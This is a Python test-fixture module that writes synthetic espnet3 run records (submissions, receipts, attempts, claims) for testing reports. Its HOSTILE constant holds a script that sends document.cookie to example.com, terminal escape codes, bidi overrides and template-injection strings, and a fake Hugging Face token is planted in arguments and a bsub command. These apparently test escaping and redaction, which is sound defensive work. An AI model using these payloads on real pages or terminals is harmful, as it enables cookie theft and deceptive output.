"""Runs of which only the records are there, written with the models: what reports are made of."""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from espnet3.specs import layout
from espnet3.specs.base import PersistedModel
from espnet3.specs.claims import WorkerState
from espnet3.specs.items import ItemRange
from espnet3.specs.models import (
    AcceptedJob,
    AcceptedJobs,
    Argument,
    AttemptRecord,
    Claim,
    ClassReference,
    ErrorRecord,
    PlannedJob,
    ProcessIdentity,
    ProcessState,
    ProviderSpec,
    Receipt,
    ResultPart,
    RunSpec,
    Submission,
    Usage,
    encode,
)

T0 = datetime(2026, 3, 4, 8, 0, tzinfo=UTC)
FINGERPRINT = "sha256:" + 64 * "0"
ITEMS = 25  # of a shard
# What a terminal, a browser or a reader's eye would obey.
HOSTILE = (
    "<script>fetch('http://example.com/?'+document.cookie)</script>"
    "<img src=x onerror=alert(1)>\"'&amp; \x1b[31mred\x1b]0;title\x07 \u202eesrever\u202c "
    "שלום עולם مرحبا \x00\x9b2J {{ 7 * 7 }} {% raw %} $\\frac{1}{2}$ a\udcffb"
)


class Records:
    """The files of a run directory, written one by one; on no host of ours is its scheduler.

    Args:
        folder: the run directory, which is made.
        n_shards: of how many shards the run is.
        n_workers: how many tasks its one submission has; each has as many shards as the others.
        scheduler: of which the submission says that it was made.
        schedule: likewise.
        options: of the submission.
    """

    def __init__(
        self,
        folder: Path,
        n_shards: int,
        n_workers: int,
        *,
        scheduler: str = "lsf",
        schedule: str = "static",
        options: dict[str, Any] | None = None,
        **run: Any,
    ) -> None:
        self.folder, self.n_shards, self.n_workers = folder, n_shards, n_workers
        for name in layout.FOLDERS:
            (folder / name).mkdir(parents=True, exist_ok=True)
        self.random = random.Random(17)
        given = {"cores": 4, "memory": "16GB", "job_extra_directives": ["-gpu num=1"]}
        options = given if options is None else options
        parallel = {"env": scheduler, "n_workers": n_workers, "options": options}
        self.write(_run(n_shards, parallel, **run))
        self.write(_submission(n_shards, n_workers, scheduler, schedule, options, parallel))
        who = ProcessIdentity(host="login", pid=1, started=0.0, user="ana")
        jobs = [AcceptedJob(name="espnet3-000000000000-0001-0", job_id="4711")]
        self.write(AcceptedJobs(number=1, created=T0, recorded_by=who, jobs=jobs))

    def write(self, record: PersistedModel) -> None:
        """Write a record under its own name."""
        path = self.folder / layout.path_of(record)
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(encode(record))

    def attempt(self, rank: int, number: int = 1) -> str:
        """A name of an attempt at a shard."""
        return f"{number:04d}-{self.random.getrandbits(48):012x}"

    def task(self, rank: int) -> int:
        """Which task computes a shard."""
        return rank // -(-self.n_shards // self.n_workers)

    def usage(self, began: float, seconds: float, **more: Any) -> Usage:
        """What an attempt took that began so many seconds after the submission."""
        return Usage(
            began=T0 + timedelta(seconds=began),
            seconds=seconds,
            **{
                "forward": 0.9 * seconds,
                "cpu": 2.5 * seconds,
                "items": ITEMS,
                "item_seconds": [(1, 5), (2, 15), (3, 5)],
                "peak_memory": self.random.randrange(3 * 10**9, 5 * 10**9),
                "peak_gpu_memory": 9 * 10**9,
                "gpu_utilisation": 0.4 + self.random.random() / 2,
                **more,
            },
        )

    def done(self, rank: int, usage: Usage | None, attempt: str = "", **more: Any) -> None:
        """Write a shard's receipt."""
        attempt = attempt or self.attempt(rank)
        file = f"{rank:06d}.{attempt}.0.jsonl"
        part = ResultPart(file=file, first=0, records=ITEMS, bytes=1000, checksum=FINGERPRINT)
        end = T0 if usage is None else usage.began + timedelta(seconds=usage.seconds)
        values: dict[str, Any] = {
            "rank": rank, "attempt": attempt, "fingerprint": FINGERPRINT, "records": ITEMS,
            "errors": 0, "salvaged": 0, "parts": [part], "host": f"node{self.task(rank) % 40:02d}",
            "created": end, "usage": usage,
        }  # fmt: skip
        if usage is None:
            values["schema_version"] = 1
        self.write(Receipt(**{**values, **more}))

    def event(self, event: str, rank: int, at: float, **more: Any) -> None:
        """Write an attempt's record."""
        values: dict[str, Any] = {
            "event": event, "rank": rank, "attempt": self.attempt(rank), "task": self.task(rank),
            "job_id": "4711", "host": f"node{self.task(rank) % 40:02d}",
            "pid": 100 + self.task(rank), "time": T0 + timedelta(seconds=at),
        }  # fmt: skip
        self.write(AttemptRecord(**{**values, **more}))

    def claim(self, rank: int, worker: str, task: int | None, attempt: str, at: float) -> None:
        """Write a shard's first claim."""
        process = ProcessIdentity(host=f"node{task or 0}", pid=7, started=0.0, user="ana")
        self.write(
            Claim(
                rank=rank, generation=1, number=0, attempt=attempt, worker=worker, process=process,
                task=task, job_id="4711", time=T0 + timedelta(seconds=at),
            )
        )  # fmt: skip

    def sign(self, worker: str, task: int | None, started: float, last: float, **more: Any) -> None:
        """Write a worker's last sign of life."""
        process = ProcessIdentity(host=f"node{task or 0}", pid=7, started=0.0, user="ana")
        self.write(
            WorkerState(
                worker=worker, beat=3, process=process, task=task, job_id="4711",
                started=T0 + timedelta(seconds=started), time=T0 + timedelta(seconds=last), **more,
            )
        )  # fmt: skip

    def all_done(self, but: range = range(0)) -> None:
        """Each task computes its shards one after the other, as they would on a cluster."""
        ends: dict[int, float] = {}
        for rank in range(self.n_shards):
            if rank in but:
                continue
            task = self.task(rank)
            first = task not in ends
            began = ends.get(task, 60.0 + 4 * task + self.random.random() * 30)
            seconds = self.random.lognormvariate(4.6, 0.35)
            usage = self.usage(began, seconds, environment=25.0 if first else 0.0)
            self.done(rank, usage)
            ends[task] = began + seconds + self.random.random() * 4


def failed(type_: str, message: str, traceback: str = "") -> dict[str, Any]:
    """What an attempt's record says of an exception."""
    lines = (
        traceback or f'Traceback …\n  File "decode.py", line 7, in forward\n{type_}: {message}\n'
    )
    return {
        "cause": f"{type_}: {message}"[:200],
        "error": ErrorRecord(type=type_, message=message, traceback=lines),
    }


def _run(n_shards: int, parallel: dict[str, Any], **more: Any) -> RunSpec:
    values: dict[str, Any] = {
        "run_id": 12 * "0",
        "created": T0,
        "fingerprint": FINGERPRINT,
        "runner": ClassReference(module="decode", qualname="Decode"),
        "provider": ProviderSpec(
            cls=ClassReference(module="decode", qualname="Speech"),
            args=[
                Argument(value={"checkpoint": "/shared/model.pt", "hub_token": "hf_S3cr3tS3cr3t"})
            ],
        ),
        "n_inputs": ITEMS * n_shards,
        "items_digest": f"range(0, {ITEMS * n_shards}, 1)",
        "world_size": n_shards,
        "python": "/home/ana/venv/bin/python",
        "working_directory": "/home/ana/work",
        "sys_path": [],
        "environment_variables": {},
        "versions": {"python": "3.12.4", "espnet3": "0.1.0"},
        "git_commit": 40 * "a",
        "parallel": parallel,
        "process": ProcessState(argv=["decode.py", "--hub-token", "hf_S3cr3tS3cr3t", "beam=5"]),
    }
    return RunSpec(**{**values, **more})


def _submission(
    n_shards: int,
    n_workers: int,
    scheduler: str,
    schedule: str,
    options: dict[str, Any],
    parallel: dict[str, Any],
) -> Submission:
    name = "espnet3-000000000000-0001-0"
    return Submission(
        number=1,
        created=T0,
        submitter=ProcessIdentity(host="login", pid=1, started=0.0, user="ana"),
        scheduler=scheduler,
        n_workers=n_workers,
        shards_per_job=-(-n_shards // n_workers),
        schedule=schedule,  # type: ignore[arg-type]  # as the caller has it
        options=options,
        parallel=parallel,
        worker_command=["python", "-m", "espnet3.worker"],
        submit_command=["bsub", "-env", "HF_TOKEN=hf_S3cr3tS3cr3t"],
        script="",
        log_directory="/shared/logs",
        ranks=ItemRange(start=0, stop=n_shards),
        jobs=[PlannedJob(name=name, first_task=0, n_tasks=n_workers, log="0001-0.{index}.log")],
    )
